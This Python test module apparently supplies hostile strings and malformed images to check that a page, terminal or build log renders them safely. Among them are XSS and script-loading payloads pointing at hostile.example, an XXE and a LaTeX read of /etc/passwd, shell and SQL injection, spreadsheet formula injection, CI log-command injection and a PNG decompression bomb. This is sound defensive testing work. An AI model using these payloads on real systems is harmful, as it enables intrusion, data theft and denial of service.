"""Texts that would break a page, a table, a terminal or a paper, and pictures that would break a reader of pictures.

Every text that is markup calls `hostile()`, would add an element `x-hostile`, or asks `hostile.example` for something:
`browser/watched.py` sees each of these.
"""

from __future__ import annotations

import io
import struct
import zlib
from functools import cache

import numpy as np
from PIL import Image

ELEMENT = "x-hostile"
"""Markup among the payloads would add elements of this name."""

PAYLOADS: dict[str, str] = {
    # markup
    "script": "<script>hostile()</script>",
    "script, in capitals": "<ScRiPt/x>hostile()</sCrIpT >",
    "script of elsewhere": "<script src=//hostile.example/x.js></script>",
    "image that fails": "<img src=x onerror=hostile()>",
    "end of an attribute": '"><x-hostile>',
    "end of an attribute in single quotes": "'><x-hostile>",
    "attribute without quotes": "x onmouseover=hostile() tabindex=1 autofocus onfocus=hostile()",
    "attribute in quotes": '" onmouseover="hostile()" x="',
    "svg": "<svg/onload=hostile()><x-hostile/></svg>",
    "math": "<math><mtext><x-hostile></mtext></math>",
    "iframe": "<iframe srcdoc='<x-hostile>'></iframe>",
    "object": "<object data=//hostile.example/x></object>",
    "base": "<base href=//hostile.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//hostile.example'>",
    "link": "<link rel=stylesheet href=//hostile.example/x.css>",
    "form": "<form action=//hostile.example><button>go</button></form>",
    "template": "<template><x-hostile></template>",
    "no end": "<x-hostile",
    # what ends an element of the page
    "end of script": "</script><x-hostile>",
    "end of script, with a space": "</script ><x-hostile>",
    "end of style": "</style><x-hostile>",
    "end of title": "</title><x-hostile>",
    "end of textarea": "</textarea><x-hostile>",
    "end of a list": "</li></ul></section></main></body></html><x-hostile>",
    "end of svg": "</text></svg><x-hostile>",
    "end of a table": "</td></tr></table><x-hostile>",
    "comment": "<!-- hidden",
    "comment in a script": "<!--<script>",
    "end of a comment": "--><x-hostile>",
    "end of a comment, again": "--!><x-hostile>",
    "end of CDATA": "]]><x-hostile>",
    "processing instruction": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "entities": "&lt;x-hostile&gt; &amp; &#60; &nbsp &quot",
    # scripts
    "end of JSON": '"}],"x":[{"y":"',
    "JSON, escaped": '\\u003cx-hostile\\u003e\\"}\\',
    "end of a string": "';hostile();//",
    "template string": "`${hostile()}`",
    "prototype": "__proto__",
    "constructor": "constructor",
    "not a number": "NaN",
    "address that is a script": "javascript:hostile()",
    "address that is a page": "data:text/html,<script>hostile()</script>",
    "address": "http://hostile.example/?a=1&b=2#c",
    "hash of the page": "#ex=1&arm=supcon/gmp&s=0.9",
    "percent signs": "100%25 %3Cx-hostile%3E %00 %ZZ %",
    # style
    "style": "x{background:url(//hostile.example/x.png)}",
    "style attribute": "background:url(//hostile.example);position:fixed;inset:0",
    "selector": "#a .b > c[d='e']:not(*)",
    # templates and formats
    "Jinja": "{{7*7}}",
    "Jinja, raw": "{% raw %}{{ config }}{% endraw %}",
    "format": "{0.__class__} %s %(a)s %n $x ${x}",
    "formula": "=cmd|' /C calc'!A0",
    "formula with @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula with +": "+1+cmd|'x'!A0",
    "formula with -": "-2+3+cmd|'x'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a line break": "\r=1+1",
    "separators": 'a,b;c\t"d",|e',
    # LaTeX
    "LaTeX that reads": r"\input{/etc/passwd}",
    "LaTeX that writes": r"\immediate\write18{hostile}",
    "LaTeX that ends": r"}\end{tabular}\end{table}\end{document}",
    "LaTeX letters": r"50 % & $x_1^2$ #1 ~ ^ { } \\ \ ",
    "math that is none": "$\\frac{1$ _^ $$",
    # Markdown
    "Markdown link": "[click](http://hostile.example) ![x](http://hostile.example/x.png)",
    "Markdown reference": "[x]: http://hostile.example",
    "mention": "@everyone #1 GH-1 hostile/hostile#1",
    "Markdown letters": "*a* _b_ **c** `d` ~~e~~ |f| > g",
    "heading": "# Not a heading",
    "rule": "---",
    "list": "- 1. item",
    # lines
    "line breaks": "line\nbreak\r\n| injected | row |",
    "line separators": "a\u2028b\u2029c\x85d",
    "tabs": "a\tb\x0bc\x0cd",
    # what no eye sees
    "NUL": "nul\x00nul",
    "bell": "bell\x07\x08\x7f",
    "escape sequences": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
    "control characters of Latin 1": "a\x80b\x9b31mc",
    "right to left override": "\u202egnp.exe",
    "isolates": "\u2066a\u2067b\u2068c",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u00ade",
    "tags": "a\U000e0001\U000e0041b",
    "private use": "a\ue000b\U0010fffdc",
    "no characters": "a\uffff\ufdd0b",
    "replaced": "a\ufffdb",
    "lone surrogate": "\ud800 lone",
    "surrogates the wrong way round": "\udc00\ud800",
    "byte of a file name": "caf\udce9.png",
    # letters
    "zalgo": "Z\u0351\u036b\u0343\u036a\u0302a\u0349\u034e\u0330l\u0321\u0353\u031eg\u0322\u0315o\u031b\u0300\u0325",
    "Arabic": "قطة صغيرة 123 (كلب)",
    "Hebrew": "חתול 12% <כלב>",
    "Chinese and Japanese": "猫と犬" * 40,
    "emoji": "🐈\u200d⬛ 👩🏽\u200d🚀 🏴\U000e0067\U000e0062\U000e007f 🇩🇪",
    "look-alikes": "саt vs cat, ΑΒС, ｓｃｒｉｐｔ ＜x-hostile＞",
    "composed and not": "é e\u0301 ﬁ ǅ ẞ İ",
    "ligature that is long": "\ufdfa\ufdfa\ufdfa",
    "one long word": "w" * 5_000,
    "one long word of wide letters": "W" * 300,
    "many words": "word " * 200,
    "nothing": "",
    "space": " ",
    "space that does not break": "\u00a0\u00a0",
    # names that mean something elsewhere
    "path": "../../../../etc/passwd",
    "path of Windows": "C:\\con\\aux|nul?.txt:stream",
    "shell": "$(touch hostile); `touch hostile` && rm -rf x",
    "SQL": "'; DROP TABLE examples;--",
    "regular expression": "(a+)+$[[:x:]]\\d{1,",
    "number": "1e309",
    "None": "None",
    # what build servers do when they read it in a log
    "error of GitHub": "::error file=a.py,line=1::hostile",
    "warning of GitHub, after blanks": " \t\u00a0::warning::hostile",
    "end of commands": "::stop-commands::hostile",
    "mask of GitHub": "::add-mask::a",
    "variable of GitHub": "::set-output name=x::hostile",
    "group of GitHub": "::group::hostile",
    "command after a line break": "cat\n::error::hostile",
    "command after a carriage return": "cat\r::error::hostile",
    "command after both": "cat\r\n  ::error::hostile",
    "command after a line separator": "cat\u2028::error::hostile",
    "command at the end of a long line": "word " * 30 + "::error::hostile",
    "command in the middle": "cat ::error::hostile",
    "error of Azure": "##[error]hostile",
    "error of Azure in the middle": "cat ##[error]hostile",
    "variable of Azure": "##vso[task.setvariable variable=x]hostile",
    "variable of Azure in the middle": "a cat, ##vso[task.complete result=Failed;]hostile",
    "more signs than needed": "####vso[task.complete]",
    "message of TeamCity": "##teamcity[buildProblem description='hostile']",
    "message of TeamCity in the middle": "a cat ##teamcity[blockOpened name='hostile']",
    "section of GitLab": "section_start:1560896352:x\r\x1b[0Khostile",
    "section of GitLab that ends": "cat section_end:1560896352:hostile\r\x1b[0K",
    "fold of Travis": "travis_fold:start:hostile\r\x1b[0K",
    "group of Buildkite": "--- hostile",
    "group of Buildkite, opened": "^^^ +++",
    "picture of Buildkite": "\x1b]1338;url='http://hostile.example/x.png'\x07",
    "link of a terminal": "\x1b]8;;http://hostile.example\x1b\\cat\x1b]8;;\x1b\\",
    "clipboard of a terminal": "\x1b]52;c;aG9zdGlsZQ==\x07",
    "question to a terminal": "\x1b[6n\x1b[c\x05",
    "markup of rich": "[/bold] [link=http://hostile.example]a[/link] [red]b",
    "formula in wide letters": "＝cmd|' /C calc'!A0",
    "emoji of GitHub": ":tada: a:cat:b",
}
"""What it is of, and the text."""

TEXTS = tuple(PAYLOADS.values())


def _png(width: int, height: int, data: bytes, *, colour: int = 0, depth: int = 8) -> bytes:
    """A PNG of these pixels, whatever they are."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    sink = io.BytesIO()
    picture.save(sink, kind, **options)
    return sink.getvalue()


def bomb(side: int = 12_000) -> bytes:
    """A small PNG of very many black pixels."""
    packed = zlib.compressobj(9)
    row = bytes(side + 1)
    return _png(side, side, b"".join(packed.compress(row) for _ in range(side)) + packed.flush())


@cache
def broken_pictures() -> dict[str, bytes]:
    """Pictures that are damaged, huge or odd, by what is wrong with them."""
    pixels = np.random.default_rng(0).integers(0, 256, (12, 10, 3), dtype=np.uint8)
    whole = _saved(Image.fromarray(pixels), "PNG")
    frames = [Image.fromarray(255 - pixels), Image.fromarray(pixels // 2)]
    flipped = bytearray(whole)
    flipped[len(whole) // 2] ^= 0xFF
    return {
        "nothing": b"",
        "only a signature": whole[:8],
        "cut short": whole[: len(whole) // 2],
        "a byte changed": bytes(flipped),
        "text": b"<svg xmlns='http://www.w3.org/2000/svg' onload='hostile()'/>",
        "page after a signature": whole[:8] + b"<script>hostile()</script>",
        "page after a picture": whole + b"<script>hostile()</script>",
        "no pixels": _png(0, 0, zlib.compress(b"")),
        "more pixels than data": _png(64, 64, zlib.compress(b"\0\0")),
        "data that are not packed": _png(4, 4, b"hostile"),
        "too large to be": _png(2**31 - 1, 2**31 - 1, zlib.compress(b"\0")),
        "bomb": bomb(),
        "CMYK": _saved(Image.fromarray(pixels).convert("CMYK"), "JPEG"),
        "animated GIF": _saved(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=50, loop=0),
        "animated PNG": _saved(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=50),
        "palette": _saved(Image.fromarray(pixels).convert("P"), "PNG"),
        "sixteen bits": _saved(Image.fromarray(pixels[..., 0].astype(np.uint16) * 257), "PNG"),
        "one bit": _saved(Image.fromarray(pixels[..., 0] > 127), "PNG"),
        "transparent": _saved(Image.fromarray(pixels).convert("RGBA"), "PNG"),
        "one pixel": _saved(Image.fromarray(pixels[:1, :1]), "PNG"),
        "one pixel wide": _saved(Image.new("RGB", (1, 10_000)), "PNG"),
        "one pixel high": _saved(Image.new("RGB", (10_000, 1)), "PNG"),
    }
